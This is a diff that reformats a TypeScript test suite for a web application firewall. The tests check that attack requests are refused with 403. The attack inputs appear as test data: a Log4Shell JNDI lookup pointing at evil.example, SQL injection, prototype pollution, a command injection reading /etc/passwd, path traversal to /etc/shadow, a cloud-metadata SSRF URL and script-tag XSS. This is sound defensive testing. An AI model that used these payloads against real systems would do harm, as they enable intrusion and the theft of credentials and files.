@@ -48,25 +48,49 @@ describe("P3 WAF blocks each attack class", () => {
 
   it("P3: a scanner user agent is blocked", async () => {
     const { app } = wafProbeApp();
-    await expectProblem(await callApp(app, "/__waf/search", { headers: { "user-agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" } }), 403, "waf_blocked");
+    await expectProblem(
+      await callApp(app, "/__waf/search", { headers: { "user-agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" } }),
+      403,
+      "waf_blocked",
+    );
   });
 
   it("P3: Log4Shell in a header is blocked", async () => {
     const { app } = wafProbeApp();
-    await expectProblem(await callApp(app, "/__waf/search", { headers: { "x-api-version": "${jndi:ldap://evil.example/a}" } }), 403, "waf_blocked");
+    await expectProblem(
+      await callApp(app, "/__waf/search", { headers: { "x-api-version": "${jndi:ldap://evil.example/a}" } }),
+      403,
+      "waf_blocked",
+    );
   });
 
   it("P3: an attack in a JSON body (value and key) is blocked and the handler never runs", async () => {
     const { app, state } = wafProbeApp();
-    await expectProblem(await callApp(app, "/__waf/notes", post({ title: "x", description: "'; DROP TABLE users; --" })), 403, "waf_blocked");
-    await expectProblem(await callApp(app, "/__waf/notes", post({ title: "x", description: "ok", constructor: { prototype: { admin: true } }, __proto__x: 1 })), 403, "waf_blocked");
+    await expectProblem(
+      await callApp(app, "/__waf/notes", post({ title: "x", description: "'; DROP TABLE users; --" })),
+      403,
+      "waf_blocked",
+    );
+    await expectProblem(
+      await callApp(
+        app,
+        "/__waf/notes",
+        post({ title: "x", description: "ok", constructor: { prototype: { admin: true } }, __proto__x: 1 }),
+      ),
+      403,
+      "waf_blocked",
+    );
     expect(state.calls).toBe(0);
   });
 
   it("P3: a disallowed method and conflicting framing headers are refused", async () => {
     const { app } = wafProbeApp();
     await expectProblem(await callApp(app, "/__waf/search", { method: "PROPFIND" }), 403, "waf_blocked");
-    await expectProblem(await callApp(app, "/__waf/search", { headers: { range: "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13" } }), 403, "waf_blocked");
+    await expectProblem(
+      await callApp(app, "/__waf/search", { headers: { range: "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13" } }),
+      403,
+      "waf_blocked",
+    );
   });
 
   it("P3: a blocked request through the real entry point costs no database or Redis round trip", async () => {
@@ -104,7 +128,8 @@ describe("P3 WAF lets look-alikes through", () => {
 
   it("P3: a bearer JWT, a refresh cookie and browser headers pass", async () => {
     const { app } = wafProbeApp();
-    const jwt = "eyJhbGciOiJFUzI1NiIsImtpZCI6ImsyWnIzY1h5MHEiLCJ0eXAiOiJKV1QifQ.eyJzdWIiOiIwZDhmM2M5ZSIsImFhbCI6ImFhbDIifQ.c2lnbmF0dXJlLWJ5dGVzLWhlcmU";
+    const jwt =
+      "eyJhbGciOiJFUzI1NiIsImtpZCI6ImsyWnIzY1h5MHEiLCJ0eXAiOiJKV1QifQ.eyJzdWIiOiIwZDhmM2M5ZSIsImFhbCI6ImFhbDIifQ.c2lnbmF0dXJlLWJ5dGVzLWhlcmU";
     const response = await callApp(app, "/__waf/search?q=risk%20register", {
       headers: {
         authorization: `Bearer ${jwt}`,
@@ -139,7 +164,12 @@ describe("P3 WAF exclusions are as narrow as declared", () => {
 
   it("P3: the excluded field is still checked by every other group", async () => {
     const { app, state } = wafProbeApp();
-    for (const attack of ["${jndi:ldap://evil.example/a}", "x; cat /etc/passwd", "../../../../etc/shadow", "http://169.254.169.254/latest/meta-data/"]) {
+    for (const attack of [
+      "${jndi:ldap://evil.example/a}",
+      "x; cat /etc/passwd",
+      "../../../../etc/shadow",
+      "http://169.254.169.254/latest/meta-data/",
+    ]) {
       await expectProblem(await callApp(app, "/__waf/reports", post({ title: "t", description: attack })), 403, "waf_blocked");
     }
     expect(state.calls).toBe(0);
@@ -169,7 +199,9 @@ describe("P3 WAF answer, log-only mode and events", () => {
     const logs = captureLogs();
     try {
       const long = `${"A".repeat(300)}<script>alert(1)</script>`;
-      await callApp(app, `/__waf/search?q=${encodeURIComponent(long)}`, { headers: { authorization: "Bearer secret-token-value", cookie: "__Host-rampart-refresh=secret-cookie-value" } });
+      await callApp(app, `/__waf/search?q=${encodeURIComponent(long)}`, {
+        headers: { authorization: "Bearer secret-token-value", cookie: "__Host-rampart-refresh=secret-cookie-value" },
+      });
     } finally {
       logs.restore();
     }
@@ -226,7 +258,11 @@ describe("P3 WAF and the body stages", () => {
     const { app, state } = wafProbeApp();
     expect((await callApp(app, "/__waf/notes", post({ title: "ok", description: "fine" }))).status).toBe(200);
     await expectProblem(await callApp(app, "/__waf/notes", { method: "POST", headers: json, body: '{"title": ' }), 400, "invalid_json");
-    await expectProblem(await callApp(app, "/__waf/notes", { method: "POST", headers: { "content-type": "text/plain" }, body: "hello" }), 415, "unsupported_media_type");
+    await expectProblem(
+      await callApp(app, "/__waf/notes", { method: "POST", headers: { "content-type": "text/plain" }, body: "hello" }),
+      415,
+      "unsupported_media_type",
+    );
     const big = JSON.stringify({ title: "x", description: "y".repeat(70 * 1024) });
     await expectProblem(await callApp(app, "/__waf/notes", { method: "POST", headers: json, body: big }), 413, "payload_too_large");
     expect(state.calls).toBe(1);
@@ -235,7 +271,13 @@ describe("P3 WAF and the body stages", () => {
   it("P3: a chunked body is inspected and handed on intact", async () => {
     const { app, state } = wafProbeApp();
     const text = JSON.stringify({ title: "streamed", description: "fine" });
-    const stream = (s: string) => new ReadableStream<Uint8Array>({ start(c) { c.enqueue(new TextEncoder().encode(s)); c.close(); } });
+    const stream = (s: string) =>
+      new ReadableStream<Uint8Array>({
+        start(c) {
+          c.enqueue(new TextEncoder().encode(s));
+          c.close();
+        },
+      });
     expect((await callApp(app, "/__waf/notes", { method: "POST", headers: json, body: stream(text) })).status).toBe(200);
     const attack = JSON.stringify({ title: "x", description: "<script>alert(1)</script>" });
     await expectProblem(await callApp(app, "/__waf/notes", { method: "POST", headers: json, body: stream(attack) }), 403, "waf_blocked");
